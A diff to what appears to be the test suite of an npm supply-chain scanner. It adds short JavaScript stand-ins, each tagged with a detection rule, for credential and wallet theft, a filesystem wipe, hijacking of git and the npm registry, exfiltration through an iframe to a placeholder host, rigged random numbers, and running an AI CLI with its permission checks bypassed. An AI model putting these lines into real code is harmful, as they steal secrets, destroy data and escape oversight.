@@ -50,6 +50,23 @@ BUILT = {
 }
 
 
+TOOL = {
+    "package.json": manifest("tool"),
+    "lib/main.js": "const { execFileSync } = require('child_process');\nconst fs = require('fs');\n"
+    "fs.writeFileSync('log.txt', execFileSync('git', ['log']));\n",
+}
+GYP = '{"targets": [{"target_name": "x", "sources": ["x.cc"]%s}]}\n'
+NATIVE = {**PLAIN, "binding.gyp": GYP % ""}
+CHAINED = {
+    "package.json": manifest(scripts={"postinstall": "npm run set-up", "set-up": "echo"}),
+    "lib/main.js": PLAIN["lib/main.js"],
+}
+FETCHED = {
+    "package.json": manifest(scripts={"install": "echo"}, binary={"host": "https://a.invalid"}),
+    "lib/main.js": PLAIN["lib/main.js"],
+}
+
+
 TESTED = {**PLAIN, "test/fixtures/old.js": "require('child_process').execSync('echo');\n"}
 
 
@@ -568,6 +585,99 @@ STAND_INS = {
         },
         "file-bin-shadows",
     ),
+    "an action of a build": _case(
+        NATIVE,
+        {"binding.gyp": GYP % ', "actions": [{"action": ["node", "lib/table.js"]}]'},
+        "install-gyp-command",
+    ),
+    "Python of a build": _case(
+        NATIVE, {"binding.gyp": GYP % ', "v": "<!pymod_do_main(x)"'}, "install-gyp-command"
+    ),
+    "a script that the install script runs": _case(
+        CHAINED,
+        _scripts(CHAINED, **{"postinstall": "npm run set-up", "set-up": "node lib/main.js"}),
+        "install-script-changed",
+    ),
+    "a program from another host": _case(
+        FETCHED,
+        {"package.json": FETCHED["package.json"].replace("//a.", "//b.")},
+        "install-script-changed",
+    ),
+    "a lockfile of its own that leads elsewhere": _case(
+        PLAIN,
+        {
+            "npm-shrinkwrap.json": json.dumps(
+                {"packages": {"node_modules/ms": {"resolved": f"{HOST}.tgz"}}}
+            )
+        },
+        "dep-nonregistry",
+    ),
+    "another package in the place of one": _case(
+        PLAIN,
+        {"package.json": manifest(dependencies={"ms": "npm:plain-hidden-part@^2.1.0"})},
+        "dep-replaced",
+        "dep-unpopular",
+    ),
+    "addresses of wallets by their shape": _adds(
+        PLAIN, "exports.shape = /^0x[0-9a-fA-F]{40}$/;\n", "tell:wallet-address"
+    ),
+    "wallets that announce themselves": _adds(
+        PLAIN,
+        "window.addEventListener('eip6963:announceProvider', exports.at);\n",
+        "tell:wallet-hook",
+    ),
+    "an assistant with a task": _adds(
+        TOOL, "execFileSync('claude', ['-p', 'echo']);\n", "tell:ai-cli"
+    ),
+    "an assistant that asks nobody": _adds(
+        TOOL, "exports.mode = ['--permission-mode', 'bypassPermissions'];\n", "tell:ai-cli"
+    ),
+    "a token of another tool": _adds(
+        TOOL, "execFileSync('gh', ['auth', 'token']);\n", "tell:cred-path"
+    ),
+    "a password of the keychain": _adds(
+        TOOL, "execFileSync('security', ['find-generic-password']);\n", "tell:cred-path"
+    ),
+    "a search for secrets": _adds(TOOL, "execFileSync('trufflehog', ['.']);\n", "tell:cred-path"),
+    "a wallet's folder": _adds(
+        TOOL, "fs.readdirSync(`${exports.at}/exodus.wallet`);\n", "tell:cred-path"
+    ),
+    "a cloud's secrets": _adds(
+        CLIENT, "require('@aws-sdk/client-secrets-manager');\n", "tell:cloud-metadata"
+    ),
+    "hooks of every repository": _adds(
+        TOOL, "execFileSync('git', ['config', 'core.hooksPath', '.x']);\n", "tell:persist"
+    ),
+    "another address for a repository": _adds(
+        TOOL, f"execFileSync('git', ['config', 'url.{HOST}.insteadOf', 'x']);\n", "tell:persist"
+    ),
+    "another registry": _adds(
+        TOOL, f"execFileSync('npm', ['config', 'set', 'registry', '{HOST}']);\n", "tell:persist"
+    ),
+    "a workflow by its parts": _adds(
+        TOOL,
+        "fs.writeFileSync(require('path').join('.github', 'workflows', 'x.yml'), '');\n",
+        "tell:persist",
+    ),
+    "removes everything": _adds(TOOL, "fs.rmSync('/', { recursive: true });\n", "tell:wipes"),
+    "hooked parser": _adds(
+        PLAIN, "const real = JSON.parse;\nJSON.parse = (text) => real(text);\n", "tell:hook-net"
+    ),
+    "weak random numbers": _adds(
+        KEYS, "require('crypto').randomBytes = (n) => Buffer.alloc(n);\n", "tell:hook-net"
+    ),
+    "hooks of the module loader": _adds(
+        PLAIN, "require('node:module').register('./x.mjs', __filename);\n", "tell:hook-net"
+    ),
+    "a module from a host": _adds(PLAIN, f"import('{HOST}');\n", "power:eval", "host-new"),
+    "a page within a page": _adds(
+        PLAIN,
+        f"document.createElement('iframe').src = '{HOST}?' + document.title;\n",
+        "power:inject-script",
+    ),
+    "a service worker": _adds(
+        PLAIN, "navigator.serviceWorker.register('/x.js');\n", "power:inject-script"
+    ),
     "new package that acts at install": _case(
         None,
         {
@@ -661,6 +771,15 @@ HONEST: dict[str, StandIn] = {
     "reads a file": _adds(PLAIN, "exports.text = require('fs').readFileSync;\n"),
     "names of days": _adds(
         PLAIN, "exports.day = 'monday'.slice(0, 3) + 'Tuesday'.replace('T', 't');\n"
+    ),
+    "a well-known dependency that nothing loads": _case(
+        PLAIN, _depends(PLAIN, "dependencies", chalk="^5.0.0")
+    ),
+    "an address of the machine itself": _adds(
+        KEYS, "exports.at = (privateKey) => fetch('http://127.0.0.1:80/' + privateKey);\n"
+    ),
+    "parses and stores": _adds(
+        PLAIN, "exports.parsed = JSON.parse;\nexports.same = JSON.parse == exports.parsed;\n"
     ),
     "a moved file": _case(CLIENT, {"src/main.js": CLIENT["lib/main.js"]}),
     "another message in the install script": _case(
